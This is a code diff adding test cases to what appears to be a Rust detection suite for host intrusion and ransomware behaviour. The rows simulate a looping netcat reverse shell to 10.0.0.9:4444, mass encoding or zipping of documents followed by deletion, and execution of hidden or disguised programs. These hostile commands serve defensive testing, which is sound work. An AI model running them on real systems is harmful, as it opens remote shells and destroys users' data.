@@ -100,6 +100,9 @@ const SHELLS: &[Row] = &[
     ("reverse-shell-command", Suspicious, |t| {
         t.spawn(ROOT, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"]);
     }),
+    ("reverse-shell-command", Suspicious, |t| {
+        shell(t, "while true; do nc -e /bin/sh 10.0.0.9 4444; sleep 1; done");
+    }),
     ("reverse-shell-command", Suspicious, |t| runs(t, "nc -e /bin/sh 10.0.0.9 4444")),
     ("reverse-shell-command", Suspicious, |t| {
         t.spawn(ROOT, "/usr/bin/python3", &["python3", "-c",
@@ -224,6 +227,32 @@ const RANSOM: &[Row] = &[
             let veiled: Vec<u8> = text.iter().map(|b| b ^ 0xa5).collect();
             t.event(ROOT, update(&path));
             t.event(ROOT, write(&path, &veiled));
+        }
+    }),
+    // Encoded as text, by tools of the system.
+    ("mass-encryption", Malicious, |t| {
+        for (_, path) in documents() {
+            let base64 = t.command(ROOT, "base64 -w0");
+            t.writes(
+                base64,
+                &format!("{path}.b64x"),
+                &[b'A'; 40]
+                    .repeat(2)
+                    .iter()
+                    .enumerate()
+                    .map(|(n, b)| b + u8::try_from(n % 20).unwrap())
+                    .collect::<Vec<u8>>(),
+            );
+            t.event(ROOT, unlink(&path));
+        }
+    }),
+    ("mass-encryption", Suspicious, |t| {
+        runs(t, "zip -P secret -r all.zip .");
+        for (_, path) in documents() {
+            t.event(ROOT, unlink(&path));
+        }
+        for (_, path) in documents() {
+            t.event(ROOT, changed(&path, "deleted", 0, None));
         }
     }),
     // Tier C sees no writes; what is left behind tells.
@@ -459,6 +488,12 @@ const EXECUTION: &[Row] = &[
     }),
     ("hidden-program", Suspicious, |t| {
         t.spawn(ROOT, "/dev/shm/x", &["/dev/shm/x"]);
+    }),
+    ("hidden-program", Suspicious, |t| {
+        t.spawn(ROOT, "/usr/bin/dash", &["/bin/sh", "/dev/shm/.x"]);
+    }),
+    ("false-program-name", Suspicious, |t| {
+        t.spawn(ROOT, "/usr/bin/dash", &["/bin/sh", "./sshd"]);
     }),
     ("false-file-type", Suspicious, |t| {
         t.spawn(ROOT, "/work/invoice.pdf.sh", &["./invoice.pdf.sh"]);
